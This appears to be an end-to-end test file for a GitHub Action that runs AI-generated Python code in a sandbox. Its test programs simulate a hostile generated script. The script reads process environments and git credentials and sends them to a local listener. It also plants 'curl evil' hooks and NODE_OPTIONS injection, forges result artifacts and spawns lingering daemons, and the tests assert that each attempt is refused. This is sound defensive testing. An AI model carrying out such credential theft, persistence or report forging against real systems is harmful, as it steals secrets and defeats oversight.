import { existsSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import os from 'node:os';
import path from 'node:path';

import { describe, expect } from 'vitest';

import { editRunnerScript, replaceMain } from '../../testing/fakes/anthropic.js';
import { PERMISSIONS } from '../../testing/fakes/github.js';
import { WEATHER_OUTPUT } from '../fixtures/e2e/mains.js';
import { attemptHelper, daemonsSource, processesMentioning } from '../helpers/attacks.js';
import { issueComment } from './events.js';
import { artifactFiles, pathWithOnly, SECRETS, type Stage, type StepOptions, type StepRun, test } from './runner.js';

const WEATHER_TOOLS = 'examples/weather/tools.py';
const COMMENTER = 'Codertocat';
const CHECKOUT_TOKEN = 'ghs_checkoutTokenPersistedByActionsCheckout01';

/** What actions/checkout leaves in .git/config unless `persist-credentials: false`. */
async function persistCheckoutCredentials(stage: Stage): Promise<void> {
  const basic = Buffer.from(`x-access-token:${CHECKOUT_TOKEN}`).toString('base64');
  await mkdir(path.join(stage.workspace, '.git', 'hooks'), { recursive: true });
  await writeFile(
    path.join(stage.workspace, '.git', 'config'),
    `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${basic}\n`,
  );
}

/** The runner's file-command files, which live in RUNNER_TEMP. */
async function fileCommands(stage: Stage): Promise<Record<'GITHUB_ENV' | 'GITHUB_PATH', string>> {
  const dir = path.join(stage.runnerTemp, '_runner_file_commands');
  await mkdir(dir, { recursive: true });
  const files = { GITHUB_ENV: path.join(dir, 'set_env'), GITHUB_PATH: path.join(dir, 'add_path') };
  for (const file of Object.values(files)) await writeFile(file, '');
  return files;
}

async function commentStep(stage: Stage, main: string, options: Partial<StepOptions> = {}): Promise<StepRun> {
  stage.github.setPermission(COMMENTER, PERMISSIONS.write);
  return stage.run({
    event: 'issue_comment',
    payload: issueComment('/codemode Compare weather between San Francisco and New York'),
    inputs: { tools: WEATHER_TOOLS },
    model: editRunnerScript([replaceMain(main)]),
    ...options,
  });
}

/** Every text a reviewer or a later step can see: comment, summary, outputs and the artifact's files. */
async function surfaces(stage: Stage, step: StepRun): Promise<string> {
  const artifacts = await Promise.all(step.artifacts.map(artifactFiles));
  return [
    ...stage.github.comments.map((comment) => comment.body),
    step.summary,
    JSON.stringify(step.outputs),
    JSON.stringify(artifacts),
  ].join('\n');
}

function secretForms(): string[] {
  const values = [...Object.values(SECRETS), CHECKOUT_TOKEN];
  return [...values, ...values.map((value) => Buffer.from(`x-access-token:${value}`).toString('base64'))];
}

const ATTEMPT = attemptHelper('    ');

describe('the built action runs the generated program in a sandbox', () => {
  test('where it finds no secret in any environment, file or process, and reaches nothing on the network', async ({ stage }) => {
    await persistCheckoutCredentials(stage);
    const commands = await fileCommands(stage);
    const received: string[] = [];
    const listener = createServer((socket) => socket.on('data', (data) => received.push(String(data))));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const { port } = listener.address() as { port: number };
    const main = `def main(params: str = "") -> object:
    import glob, os, socket
${ATTEMPT}
    def environments():
        found = []
        for file in glob.glob("/proc/*/environ"):
            try:
                found.append(open(file, "rb").read().decode(errors="replace"))
            except OSError:
                pass
        return found
    def exfiltrate():
        with socket.create_connection(("127.0.0.1", ${port}), timeout=2) as connection:
            connection.sendall(repr(environments()).encode())
        return "sent"
    attempt("env", lambda: dict(os.environ))
    attempt("environs", environments)
    attempt("git_config", lambda: open(".git/config").read())
    attempt("network", exfiltrate)
    attempt("github_env", lambda: open(${JSON.stringify(commands.GITHUB_ENV)}, "a").write("NODE_OPTIONS=--require /tmp/evil.js\\n"))
    attempt("github_path", lambda: open(${JSON.stringify(commands.GITHUB_PATH)}, "a").write("/tmp/evil\\n"))
    attempt("hook", lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\\ncurl evil\\n"))
    attempt("tools", lambda: open(${JSON.stringify(WEATHER_TOOLS)}, "a").write("\\n# planted\\n"))
    seen["weather"] = get_weather("Paris")
    return seen
`;
    const before = await readFile(path.join(stage.workspace, WEATHER_TOOLS), 'utf8');
    const step = await commentStep(stage, main, { env: { ...commands, RUNNER_ENVIRONMENT: 'github-hosted' } }).finally(() =>
      listener.close(),
    );

    expect(step.messages('error')).toEqual([]);
    expect(step.exitCode).toBe(0);
    const output = JSON.parse(step.outputs.result!) as Record<string, unknown>;
    expect(output).toMatchObject({
      git_config: 'refused: FileNotFoundError',
      network: 'refused: ConnectionRefusedError',
      github_env: 'refused: FileNotFoundError',
      github_path: 'refused: FileNotFoundError',
      hook: 'refused: FileNotFoundError',
      tools: 'refused: OSError',
      weather: 'Weather in Paris: Sunny, 70°F',
    });
    // Read before redaction: nothing had to be masked, and no process's environment holds a job variable.
    expect(step.outputs.result).not.toContain('***');
    const sandboxVariables = Object.keys(output.env as object);
    for (const environ of output.environs as string[]) {
      const names = environ
        .split('\0')
        .filter(Boolean)
        .map((entry) => entry.slice(0, entry.indexOf('=')));
      expect(names.filter((name) => !sandboxVariables.includes(name))).toEqual([]);
    }
    expect((output.environs as string[]).length).toBeGreaterThan(0);
    expect(sandboxVariables.sort()).toEqual([
      'CODEMODE_CHANNEL_FD',
      'HOME',
      'LANG',
      'PATH',
      'PWD',
      'PYTHONDONTWRITEBYTECODE',
      'PYTHONPATH',
      'PYTHONUNBUFFERED',
      'TMPDIR',
    ]);
    const everything = await surfaces(stage, step);
    for (const secret of secretForms()) expect(everything).not.toContain(secret);
    expect(received).toEqual([]);
    expect(readFileSync(commands.GITHUB_ENV, 'utf8')).toBe('');
    expect(readFileSync(commands.GITHUB_PATH, 'utf8')).toBe('');
    expect(existsSync(path.join(stage.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(await readFile(path.join(stage.workspace, WEATHER_TOOLS), 'utf8')).toBe(before);
    expect(stage.github.comments[0]!.body).not.toContain('Not sandboxed');
  });

  test("where a second checkout's token is neither readable nor, with the sandbox off, shown on any surface", async ({ stage }) => {
    const pat = 'github_pat_11SECONDCHECKOUT0secretValue0123456789';
    const basic = Buffer.from(`pat:${pat}`).toString('base64');
    await mkdir(path.join(stage.workspace, 'vendor', 'lib', '.git'), { recursive: true });
    await writeFile(
      path.join(stage.workspace, 'vendor', 'lib', '.git', 'config'),
      `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${basic}\n`,
    );
    await writeFile(path.join(stage.workspace, 'vendor', 'lib', '.npmrc'), `//npm.pkg.github.com/:_authToken=${pat}\n`);
    const main = `def main(params: str = "") -> object:
${ATTEMPT}
    attempt("git_config", lambda: open("vendor/lib/.git/config").read())
    attempt("npmrc", lambda: open("vendor/lib/.npmrc").read())
    return seen
`;
    const sandboxed = await commentStep(stage, main);
    expect(sandboxed.exitCode).toBe(0);
    expect(JSON.parse(sandboxed.outputs.result!)).toEqual({ git_config: 'refused: FileNotFoundError', npmrc: 'refused: PermissionError' });
    const unsandboxed = await commentStep(stage, main, { inputs: { tools: WEATHER_TOOLS, sandbox: 'off' } });
    expect(unsandboxed.exitCode).toBe(0);
    expect(unsandboxed.outputs.result).toContain('***');
    const everything = [await surfaces(stage, sandboxed), await surfaces(stage, unsandboxed)].join('\n');
    for (const form of [pat, basic, `pat:${pat}`]) expect(everything).not.toContain(form);
  });

  test('whose trace, result, code and artifact the program cannot forge', async ({ stage }) => {
    const main = `def main(params: str = "") -> object:
    import os, sys
${ATTEMPT}
    real = get_weather("Paris")
    runtime = sys.modules.get("_codemode_runtime")
    attempt("runtime_calls", lambda: [name for name in dir(runtime) if "CALL" in name.upper()])
    attempt("rewrite_runner", lambda: open(__file__, "w").write("def main():\\n    return 'innocent'\\n"))
    for name in ("host-report.json", "result.json"):
        attempt(name, lambda: open(os.path.join(os.path.dirname(__file__), name), "w").write('{"ok": true, "trace": []}'))
    print('{"op": "result", "ok": true, "output": "forged"}')
    return {"real": real, **seen}
`;
    const step = await commentStep(stage, main);
    expect(step.exitCode).toBe(0);
    const result = JSON.parse((await artifactFiles(step.artifacts[0]!))['result.json']!) as {
      trace: { tool: string }[];
      output: Record<string, unknown>;
      code: string;
    };
    expect(result.trace.map((entry) => entry.tool)).toEqual(['get_weather']);
    expect(result.output).toMatchObject({
      real: 'Weather in Paris: Sunny, 70°F',
      rewrite_runner: 'refused: OSError',
      'host-report.json': 'refused: OSError',
      'result.json': 'refused: OSError',
    });
    expect(result.code).toContain('attempt("rewrite_runner"');
    expect((await artifactFiles(step.artifacts[0]!))['agentRunner.py']).toBe(result.code);
    expect(step.artifacts.map((artifact) => artifact.name)).toEqual(['codemode-result']);
    expect(stage.results.artifacts().map((artifact) => artifact.name)).toEqual(['codemode-result']);
  });

  test('and nothing it starts outlives it', async ({ stage }) => {
    const marker = `${(Date.now() % 90000) + 1000}.25`;
    const main = `def main(params: str = "") -> object:
${daemonsSource(marker, '    ')}    return get_weather("Paris")
`;
    const step = await commentStep(stage, main);
    expect(step.exitCode).toBe(0);
    expect(await processesMentioning(`sleep ${marker}`)).toEqual([]);
  });

  test('unless the workflow turns it off, which every report says', async ({ stage }) => {
    const main = `def main(params: str = "") -> object:
    return {"san_francisco": get_weather("San Francisco"), "new_york": get_weather("New York"), "difference": calculate_temp_diff(get_weather("San Francisco"), get_weather("New York"))}
`;
    const step = await commentStep(stage, main, { inputs: { tools: WEATHER_TOOLS, sandbox: 'off' } });
    expect(step.exitCode).toBe(0);
    expect(JSON.parse(step.outputs.result!)).toEqual(WEATHER_OUTPUT);
    expect(stage.github.comments[0]!.body).toContain(
      "⚠ Not sandboxed: the program ran with the job's files, network and processes in reach (sandbox: off).",
    );
    expect(step.summary).toContain('Not sandboxed');
  });

  test('and fails before any model request, in one line, where no sandbox can start', async ({ stage }) => {
    const bin = await pathWithOnly(await mkdtemp(path.join(os.tmpdir(), 'codemode-no-bwrap-')), ['python3']);
    const step = await commentStep(stage, 'def main(params: str = "") -> object:\n    return 1\n', { path: bin, model: undefined });
    expect(step.exitCode).toBe(1);
    expect(step.modelRequests).toBe(0);
    expect(step.messages('error')).toEqual([
      "Code Mode could not start: bubblewrap (bwrap) is not installed: install it (apt-get install bubblewrap), or set sandbox: off to run the program unsandboxed, with the job's files, network and processes in reach",
    ]);
  });
});
